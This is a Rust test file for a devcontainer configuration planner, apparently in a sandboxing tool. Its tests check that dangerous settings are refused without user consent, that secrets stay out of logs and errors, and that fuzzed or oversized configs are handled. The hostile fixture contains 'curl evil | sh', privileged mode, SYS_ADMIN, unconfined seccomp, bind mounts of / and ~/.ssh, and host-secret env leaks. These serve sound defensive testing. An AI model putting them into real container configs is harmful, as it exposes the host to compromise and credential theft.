//! A config that wants the host.

use serde_json::json;

use super::*;
use crate::git::testing::Random;
use crate::setup::plan::{ContainerOptions, MountKind, StepCommand};

fn hostile() -> Value {
    json!({
        "image": "ubuntu",
        "initializeCommand": "curl evil | sh",
        "privileged": true,
        "capAdd": ["SYS_ADMIN", "SYS_PTRACE"],
        "securityOpt": ["seccomp=unconfined"],
        "mounts": [
            { "type": "bind", "source": "/", "target": "/host" },
            "source=${localEnv:HOME}/.ssh,target=/ssh,type=bind",
            "type=volume,target=/v,volume-opt=type=none,volume-opt=o=bind,volume-opt=device=/"
        ],
        "runArgs": ["--label", "--privileged", "-v", "/:/host2", "-e", "SECRET", "--network=host"],
        "containerEnv": { "STOLEN": "${localEnv:SECRET}" },
        "remoteEnv": { "STOLEN2": "${env:SECRET}" },
        "postCreateCommand": "echo ${localEnv:SECRET:none}"
    })
}

#[test]
fn it_gets_none_of_it_and_each_is_refused() {
    let planned = case().planned(&hostile(), &[]);
    let plan = planned.plan;
    assert!(planned.initialize.is_empty());
    assert_eq!(
        keys(&plan),
        [
            "privileged",
            "capAdd",
            "securityOpt",
            "mounts[0]",
            "mounts[1]",
            "runArgs[0]",
            "runArgs[2]",
            "runArgs[4]",
            "runArgs[6]",
            "initializeCommand",
        ]
    );
    let free = ContainerOptions { cap_add: vec!["SYS_PTRACE".into()], ..ContainerOptions::default() };
    assert_eq!(plan.container, free);
    assert_eq!(plan.mounts.iter().map(|m| (&*m.target, &m.what)).collect::<Vec<_>>(), [("/v", &MountKind::Volume)]);
    assert_eq!((plan.env["STOLEN"].as_str(), plan.remote_env["STOLEN2"].as_deref()), ("", Some("")));
    assert_eq!(plan.steps[0].command, StepCommand::Shell("echo none".into()));
    assert_eq!(plan.notices.iter().filter(|notice| notice.contains("`SECRET`")).count(), 1);
    assert!(!format!("{:?}", case().planned(&hostile(), &[])).contains("s3cret"));
}

#[test]
fn consents_say_what_is_asked_for() {
    let plan = case().plan(&hostile());
    let asked: Vec<_> = plan.refused.iter().map(|refused| refused.consent.as_str()).collect();
    assert_eq!(
        asked,
        [
            r#"privileged: true"#,
            r#"capAdd: "SYS_ADMIN""#,
            r#"securityOpt: "seccomp=unconfined""#,
            r#"mounts: {"source":"/","target":"/host","type":"bind"}"#,
            r#"mounts: {"source":"/home/u/.ssh","target":"/ssh","type":"bind"}"#,
            r#"runArgs: "--label=--privileged""#,
            r#"runArgs: "-v=/:/host2""#,
            r#"runArgs: "-e=SECRET""#,
            r#"runArgs: "--network=host""#,
            r#"initializeCommand: "curl evil | sh""#,
        ]
    );
}

#[test]
fn with_consent_it_gets_what_was_asked_for() {
    let planned = case().allow(&[""]).planned(&hostile(), &[]);
    let plan = planned.plan;
    assert_eq!(planned.initialize, [StepCommand::Shell("curl evil | sh".into())]);
    assert!(plan.refused.is_empty() && plan.container.privileged);
    assert_eq!(plan.container.cap_add, ["SYS_PTRACE", "SYS_ADMIN"]);
    assert_eq!(plan.container.security_opt, ["seccomp=unconfined"]);
    let args = ["--label=--privileged", "-v=/:/host2", "-e=SECRET", "--network=host"];
    assert_eq!(plan.container.run_args, args);
    assert_eq!(plan.mounts[0].what, MountKind::Bind { source: "/".into(), readonly: false });
    assert!(plan.steps.iter().all(|step| step.origin == "devcontainer.json" && step.command != planned.initialize[0]));
    // A host variable is not a matter of consent.
    assert_eq!(plan.env["STOLEN"], "");
}

#[test]
fn images_and_features_are_asked_about_by_name() {
    let wants = json!({ "privileged": true, "capAdd": ["NET_ADMIN"], "mounts": ["type=bind,src=/a,dst=/b"] });
    let parts = [image(wants.clone()), feature("./x\u{1b}[2J", wants)];
    let plan = case().allow(&["the image: privileged"]).planned(&json!({}), &parts).plan;
    assert!(plan.container.privileged);
    let asked: Vec<_> = plan.refused.iter().map(|refused| refused.consent.as_str()).collect();
    assert_eq!(
        asked,
        [
            r#"the image: capAdd: "NET_ADMIN""#,
            r#"feature ./x\u{1b}[2J: privileged: true"#,
            r#"feature ./x\u{1b}[2J: capAdd: "NET_ADMIN""#,
            r#"feature ./x\u{1b}[2J: mounts: {"source":"/a","target":"/b","type":"bind"}"#,
        ]
    );
}

#[test]
fn a_secret_that_the_user_passes_is_used_and_never_shown() {
    let mut case = case();
    case.passed = BTreeMap::from([("TOKEN".into(), "t0ken".into()), ("OTHER".into(), "0ther".into())]);
    let config = json!({
        "secrets": { "TOKEN": { "description": "for the registry" } },
        "remoteEnv": { "A": "${localEnv:TOKEN}", "B": "${localEnv:OTHER}" },
        "runArgs": ["--x", "${localEnv:TOKEN}"],
        "initializeCommand": { "a": ["${localEnv:TOKEN}"] }
    });
    let plan = case.plan(&config);
    assert!(plan.secret_env.get("A").is_some_and(|value| value == "t0ken"));
    assert_eq!(plan.remote_env["B"].as_deref(), Some(""));
    assert_eq!(plan.secrets["TOKEN"], "for the registry");
    let talk = format!("{:?}{:?}{:?}", plan.refused, plan.ignored, plan.notices);
    assert!(!talk.contains("t0ken") && !talk.contains("0ther") && talk.contains("`OTHER`"), "{talk}");
}

#[test]
fn a_secret_is_in_nothing_that_lasts() {
    let mut case = case();
    case.passed = BTreeMap::from([("TOKEN".into(), "t0ken".into())]);
    let secret = "x${localEnv:TOKEN}";
    let planned = case.planned(
        &json!({
            "secrets": { "TOKEN": {} },
            "containerEnv": { "A": secret, "B": "b" },
            "remoteEnv": { "C": secret, "D": null },
            "runArgs": ["--hostname", secret, "--env", format!("E={secret}")],
            "features": { "./f": { "key": secret, "other": true } },
            "postCreateCommand": secret,
            "postStartCommand": ["echo", secret],
            "postAttachCommand": { "one": secret, "two": "true" },
        }),
        &[],
    );
    let plan = &planned.plan;
    assert_eq!(plan.secret_env.names(), ["A", "C", "E"]);
    assert_eq!((plan.env.len(), plan.remote_env.len()), (1, 1));
    let commands: Vec<_> = plan.steps.iter().map(|step| step.command.clone()).collect();
    assert_eq!(commands, [StepCommand::Shell("xt0ken".into()), StepCommand::Shell("true".into())]);
    assert_eq!(planned.features[0].1, json!({ "other": true }));
    assert!(!format!("{:?} {:?}", plan.container, plan.secret_env).contains("t0ken"));
    let said = plan.notices.last().unwrap();
    for key in ["`runArgs`", "`features../f.key`", "`postStartCommand`", "`postAttachCommand`"] {
        assert!(said.contains(key), "{said}");
    }
}

#[test]
fn no_error_shows_a_secret() {
    let mut case = case().file(".devcontainer/D");
    case.passed = BTreeMap::from([("TOKEN".into(), "t0ken".into())]);
    let secret = "- ${localEnv:TOKEN}";
    let cases = [
        json!({ "image": secret }),
        json!({ "remoteUser": secret }),
        json!({ "workspaceFolder": secret }),
        json!({ "workspaceMount": format!("target={secret}") }),
        json!({ "runArgs": ["--${localEnv:TOKEN}"] }),
        json!({ "build": { "dockerfile": "${localEnv:TOKEN}" } }),
        json!({ "build": { "dockerfile": "/${localEnv:TOKEN}" } }),
        json!({ "build": { "dockerfile": "D", "context": "${localEnv:TOKEN}" } }),
    ];
    for mut config in cases {
        config["secrets"] = json!({ "TOKEN": {} });
        let error = case.error(&config);
        assert!(error.contains("${localEnv:TOKEN}") && !error.contains("t0ken"), "{error}");
    }
}

#[test]
fn values_of_the_host_go_into_an_image_only_with_consent() {
    let config = json!({ "build": { "dockerfile": "D", "args": {
        "A": "${localEnv:USER}", "B": "${localEnv:SECRET:d}", "C": "${localEnv:HOSTLESS}", "D": "${devcontainerId}" } } });
    let case = case().file(".devcontainer/D");
    let plan = case.plan(&config);
    assert_eq!(keys(&plan), ["build.args.A"]);
    assert_eq!(plan.refused[0].consent, r#"build.args.A: "${localEnv:USER}""#);
    let crate::setup::plan::ImageRequest::Build(build) = plan.image else { panic!("{:?}", plan.image) };
    assert_eq!(build.args.keys().collect::<Vec<_>>(), ["B", "C", "D"]);
    assert_eq!((build.args["B"].as_str(), build.args["C"].as_str(), build.args["D"].len()), ("d", "", 52));
}

/// Whatever it is, it is a plan or an error, in one line that acts on no terminal.
#[test]
fn damaged_configs_are_a_plan_or_an_error() {
    let mut config = hostile();
    let more = json!({
        "build": { "dockerfile": "D", "context": "..", "args": { "A": 1 }, "options": ["--x", "y"], "cacheFrom": "z" },
        "workspaceFolder": "/w/${localWorkspaceFolderBasename}", "workspaceMount": "source=a,target=/b,type=bind",
        "forwardPorts": [1, "localhost:2"], "hostRequirements": { "cpus": 9, "memory": "1gb", "gpu": true },
        "features": { "a": { "b": "c" } }, "secrets": { "A": {} }, "remoteUser": "u", "customizations": { "cowbox": {} },
        "onCreateCommand": ["a", "b c"], "postStartCommand": { "x": "y", "z": ["w"] }, "imagge": "x", "waitFor": "onCreateCommand"
    });
    config.as_object_mut().unwrap().extend(more.as_object().unwrap().clone());
    let good = serde_json::to_vec_pretty(&config).unwrap();
    let case = case().file(".devcontainer/D");
    case.try_plan(&good, &[]).unwrap();
    let mut random = Random::new(4);
    let (mut plans, mut errors) = (0, 0);
    for _ in 0..2000 {
        let damaged = random.damage(&good);
        let said = match case.try_plan(&damaged, &[]) {
            Ok(planned) => {
                plans += 1;
                assert!(planned.initialize.is_empty() && !planned.plan.container.privileged);
                let plan = planned.plan;
                assert!(plan.mounts.iter().all(|mount| !matches!(mount.what, MountKind::Bind { .. })));
                let refused = plan.refused.into_iter().flat_map(|r| [r.key, r.reason, r.consent]);
                let ignored = plan.ignored.into_iter().flat_map(|i| [i.key, i.reason]);
                refused.chain(ignored).chain(plan.notices).collect::<Vec<_>>()
            }
            Err(e) => {
                errors += 1;
                assert!(e.message().starts_with(PATH), "{e}");
                vec![e.message().to_owned()]
            }
        };
        assert!(said.iter().all(|text| !text.contains(crate::ui::sanitize::is_dangerous)), "{said:?}");
    }
    assert!(plans > 100 && errors > 100, "{plans} {errors}");
}

#[test]
fn damaged_labels_are_parts_or_a_notice() {
    let good = json!([hostile(), { "id": "x", "hostRequirements": { "memory": "4gb" }, "remoteEnv": { "A": null } }]);
    let good = serde_json::to_vec(&good).unwrap();
    let (case, mut random) = (case(), Random::new(5));
    for _ in 0..1000 {
        let damaged = random.damage(&good);
        let label = parse_label(&String::from_utf8_lossy(&damaged));
        assert!(!label.parts.is_empty() || label.notice.is_some());
        if let Ok(planned) = case.try_plan(b"{}", &label.parts) {
            assert!(!planned.plan.container.privileged && planned.initialize.is_empty());
        }
    }
}

/// The slowest ways through that a file of the largest size has: none may grow with the square of it.
#[test]
fn a_large_config_takes_no_longer_than_its_size() {
    let many = |n: usize, each: &dyn Fn(usize) -> String| (0..n).map(each).collect::<Vec<_>>().join(",");
    let cases = [
        format!("{{\"capAdd\":[{}]}}", many(90_000, &|i| format!("\"c{i}\""))),
        format!("{{\"mounts\":[{}]}}", many(60_000, &|i| format!("\"target=/{i}\""))),
        format!("{{{}}}", many(90_000, &|i| format!("\"k{i}\":1"))),
        format!("{{\"postCreateCommand\":\"{}\"}}", "${".repeat(500_000)),
        format!("{{\"postCreateCommand\":\"{}\"}}", "' \\\" ".repeat(200_000)),
        format!("{{\"containerEnv\":{{{}}}}}", many(40_000, &|i| format!("\"k{i}\":\"${{env:A{i}}}\""))),
    ];
    for text in cases {
        let start = std::time::Instant::now();
        case().try_plan(text.as_bytes(), &[]).unwrap();
        assert!(start.elapsed().as_secs() < 10, "{}: {:?}", &text[..30], start.elapsed());
    }
}
